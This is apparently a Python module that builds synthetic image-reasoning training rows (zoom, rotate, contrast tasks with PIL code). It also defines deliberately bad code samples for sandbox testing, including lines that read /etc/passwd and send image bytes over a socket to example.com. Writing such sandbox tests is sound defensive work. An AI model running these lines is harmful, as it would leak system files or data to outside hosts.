"""Think-with-image rows of the cold-start SFT sources: a detail too small, turned or faint to see at a
glance, and the code that brings it out.

Each row holds an image, a question, the answer, the reasoning and Python code that crops, rotates,
enlarges or raises the contrast of the right region; the think_with_image stage
(:mod:`curation.synth.think_with_image`) runs that code in its sandbox. Dirty rows carry code the
sandbox must refuse or fail on (``_BAD_CODE``).
"""

from __future__ import annotations

import random

from PIL import Image, ImageDraw

from curation.sample.plan import CorpusSpec
from curation.sample.scenes import (
    COLOURS,
    _font,
    draw_scene,
    encode_image,
    make_objects_scene,
    make_shape_scene,
)
from curation.sample.seeding import _rng

_TWI = "think_with_image"
_CORNERS = ("top-left", "top-right", "bottom-left", "bottom-right")
_CODE_CHARS = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"


def _corner_xy(corner: str, w: int, h: int, bw: int, bh: int, rng: random.Random) -> tuple[int, int]:
    mx, my = rng.randint(6, 24), rng.randint(6, 24)
    return (mx if "left" in corner else w - bw - mx), (my if "top" in corner else h - bh - my)


def _twi_task(rng: random.Random) -> tuple[Image.Image, str, str, str, str, tuple[int, int, int, int]]:
    """An image with a detail too small, turned or faint to see at a glance, and code that brings it out:
    ``(image, question, answer, reasoning, code, crop box)``."""
    scene = make_shape_scene(rng) if rng.random() < 0.6 else make_objects_scene(rng)
    w, h = rng.randint(360, 480), rng.randint(270, 360)
    img = draw_scene(scene, w, h)
    draw = ImageDraw.Draw(img)
    task = rng.choice(("zoom", "zoom", "rotate", "enhance", "mark"))
    corner = rng.choice(_CORNERS)
    word = "".join(rng.choice(_CODE_CHARS) for _ in range(rng.randint(3, 4)))
    if task == "rotate":
        font = _font(14)
        tw, th = int(font.getlength(word)) + 8, 20
        strip = Image.new("RGB", (tw, th), COLOURS["white"])
        ImageDraw.Draw(strip).text((4, 2), word, font=font, fill=COLOURS["black"])
        strip = strip.rotate(90, expand=True)  # reads bottom to top
        side = rng.choice(("left", "right"))
        x = 6 if side == "left" else w - strip.width - 6
        y = (h - strip.height) // 2
        img.paste(strip, (x, y))
        box = (max(0, x - 6), max(0, y - 6), min(w, x + strip.width + 6), min(h, y + strip.height + 6))
        code = (
            f"region = image.crop({box})\n"
            "result = region.rotate(-90, expand=True).resize((region.height * 3, region.width * 3))"
        )
        reasoning = (
            f"The text along the {side} edge is turned on its side, so it is hard to read. I will crop "
            "that strip and rotate it upright."
        )
        return (
            img,
            f"Some text runs sideways along the {side} edge. What does it say?",
            f"It says '{word}'.",
            reasoning,
            code,
            box,
        )
    if task == "mark":
        colour = rng.choice(
            ("red", "blue", "green", "purple", "orange", "black")
        )  # on a white patch of its own
        bw = bh = 14
        x, y = _corner_xy(corner, w, h, bw, bh, rng)
        draw.rectangle([x, y, x + bw, y + bh], fill=COLOURS["white"])
        draw.ellipse([x + 4, y + 4, x + bw - 4, y + bh - 4], fill=COLOURS[colour])
        question, answer = f"What colour is the tiny dot near the {corner} corner?", f"The dot is {colour}."
        reasoning = (
            f"There is a tiny dot near the {corner} corner, only a few pixels wide. I will crop around it "
            "and enlarge it to see its colour."
        )
    else:
        size = 9 if task == "zoom" else 14
        font = _font(size)
        bw, bh = int(font.getlength(word)) + 6, size + 6
        x, y = _corner_xy(corner, w, h, bw, bh, rng)
        paper, ink = (
            ((245, 245, 245), COLOURS["black"]) if task == "zoom" else ((200, 200, 200), (186, 186, 186))
        )
        draw.rectangle([x, y, x + bw, y + bh], fill=paper)
        draw.text((x + 3, y + 3), word, font=font, fill=ink)
        if task == "zoom":
            question, answer = (
                f"What is written on the small label in the {corner} corner?",
                f"The label reads '{word}'.",
            )
            reasoning = (
                f"The label in the {corner} corner is only a few pixels tall, too small to read at this "
                "size. I will crop the region around it and enlarge it four times."
            )
        else:
            question, answer = (
                f"There is faint writing in the {corner} corner. What does it say?",
                f"It says '{word}'.",
            )
            reasoning = (
                f"The writing in the {corner} corner is barely darker than its background. Raising the "
                "contrast of that region should make it readable."
            )
    pad = 10
    box = (max(0, x - pad), max(0, y - pad), min(w, x + bw + pad), min(h, y + bh + pad))
    if task == "enhance":
        code = (
            "from PIL import ImageEnhance\n"
            f"region = image.crop({box})\n"
            "result = ImageEnhance.Contrast(region).enhance(6.0)"
            ".resize((region.width * 3, region.height * 3))"
        )
    else:
        code = (
            f"x0, y0, x1, y1 = {box}\n"
            "result = image.crop((x0, y0, x1, y1)).resize(((x1 - x0) * 4, (y1 - y0) * 4))"
        )
    return img, question, answer, reasoning, code, box


# What the sandbox must refuse or fail on: code for the zoom box, keyed by dirt kind.
_BAD_CODE = {
    "syntax_error": "result = image.crop(({x0}, {y0}, {x1}, {y1}).resize(({dw}, {dh}))",
    "raises": "result = image.crop(({x0}, {y0}, {x1}, {y1})).resize((0, -{dh}))",
    "reads_file": "secret = open('/etc/passwd').read()\nresult = image.crop(({x0}, {y0}, {x1}, {y1}))",
    "opens_socket": (
        "import socket\nconn = socket.create_connection(('example.com', 80), timeout=2)\n"
        "conn.sendall(image.tobytes()[:64])\nresult = image.crop(({x0}, {y0}, {x1}, {y1}))"
    ),
    "no_result": "zoomed = image.crop(({x0}, {y0}, {x1}, {y1})).resize(({dw}, {dh}))",
    "infinite_loop": "while True:\n    pass\nresult = image",
}


def _twi_record(spec: CorpusSpec, i: int, mode: str, dirt: str) -> tuple[dict, list[tuple[str, bytes]]]:
    rng = _rng(spec.seed, "sft", _TWI, i)
    key = f"twi-{i:05d}"
    img, question, answer, reasoning, code, (x0, y0, x1, y1) = _twi_task(rng)
    if dirt in _BAD_CODE:
        code = _BAD_CODE[dirt].format(x0=x0, y0=y0, x1=x1, y1=y1, dw=(x1 - x0) * 4, dh=(y1 - y0) * 4)
    image = f"images/{key}.png"
    files = [(image, encode_image(img, "png"))]
    if dirt == "missing_image":
        image, files = f"images/missing-{key}.png", []
    return {
        "id": key,
        "question": question,
        "answer": answer,
        "reasoning": reasoning,
        "code": code,
        "image": image,
    }, files
